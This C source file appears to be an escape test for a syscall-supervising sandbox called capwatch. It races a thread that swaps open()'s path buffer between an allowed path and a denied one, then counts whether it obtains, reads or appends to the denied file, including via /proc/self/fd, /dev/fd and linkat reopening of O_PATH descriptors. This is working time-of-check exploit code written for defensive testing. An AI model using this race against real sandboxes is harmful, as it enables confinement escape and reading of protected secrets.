/* E17e/E17f: a second thread rewrites the path buffer while open() waits
 * for the supervisor, with a GOOD path capwatch used to let the kernel
 * open itself (CONTINUE): /proc/self/status, /sys/..., /dev/tty. The
 * check sees GOOD; the kernel may open EVIL.
 *
 * usage: e17e_special_flip SECONDS MODE GOOD EVIL
 * MODE r: open(O_RDONLY); a hit is a descriptor of EVIL that reads (EVIL
 *         is a secret every built-in profile denies).
 * MODE w: open(O_WRONLY|O_APPEND); a hit is a descriptor of EVIL, and a
 *         line appended to it (EVIL is a file outside the workspace).
 * MODE p: open(O_PATH); a descriptor of EVIL is expected then (an O_PATH
 *         open is continued), and a hit is any way from it to EVIL's
 *         bytes: reopening it through /proc/self/fd/N or /dev/fd/N,
 *         a hard link of it (linkat AT_EMPTY_PATH) in the cwd, opened. */
#include "esc.h"
#include <pthread.h>

static char path[4096];
static char good[4096], evil[4096];
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(path, evil, sizeof(path));
		__asm__ volatile("" ::: "memory"); /* keep both stores */
		memcpy(path, good, sizeof(path));
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

/* Reads of EVIL reached from an O_PATH descriptor, per route. */
static long via_procfd, via_devfd, via_link;

/* Can the bytes of EVIL be read starting from the O_PATH descriptor FD?
 * Every route is tried (and counted) each time. */
static int opath_reaches(int fd, struct esc_id canary)
{
	char p[64], buf[16];
	const char *via[] = { "/proc/self/fd/%d", "/dev/fd/%d" };
	long *count[] = { &via_procfd, &via_devfd };
	int hit = 0;
	for (size_t i = 0; i < 2; i++) {
		snprintf(p, sizeof(p), via[i], fd);
		int r = open(p, O_RDONLY);
		if (r < 0)
			continue;
		if (esc_fd_is(r, canary) && read(r, buf, sizeof(buf)) > 0) {
			(*count[i])++;
			hit = 1;
		}
		close(r);
	}
	unlink("e17e.link");
	if (linkat(fd, "", AT_FDCWD, "e17e.link", AT_EMPTY_PATH) == 0) {
		int r = open("e17e.link", O_RDONLY);
		if (r >= 0 && esc_fd_is(r, canary) && read(r, buf, sizeof(buf)) > 0) {
			via_link++;
			hit = 1;
		}
		if (r >= 0)
			close(r);
		unlink("e17e.link");
	}
	return hit;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 5, "e17e_special_flip SECONDS r|w|p GOOD EVIL");
	double end = esc_now() + atof(argv[1]);
	char mode = argv[2][0];
	snprintf(good, sizeof(good), "%s", argv[3]);
	snprintf(evil, sizeof(evil), "%s", argv[4]);
	memcpy(path, good, sizeof(path));
	struct esc_id canary = esc_id_of(evil);
	int flags = mode == 'w' ? O_WRONLY | O_APPEND : mode == 'p' ? O_PATH : O_RDONLY;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0, landed = 0;
	char buf[16];
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int fd = open(path, flags);
		if (fd < 0)
			continue;
		ok++;
		if (esc_fd_is(fd, canary)) {
			landed++;
			if (mode == 'w') {
				hits++;
				if (write(fd, "pwn-e17f\n", 9) < 0)
					perror("write");
			} else if (mode == 'r') {
				if (read(fd, buf, sizeof(buf)) > 0)
					hits++;
			} else if (opath_reaches(fd, canary)) {
				hits++;
			}
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	if (mode == 'p')
		printf("OPATH landed=%ld via_procfd=%ld via_devfd=%ld via_link=%ld\n", landed, via_procfd,
		       via_devfd, via_link);
	esc_race_result(attempts, ok, hits);
	return 0;
}
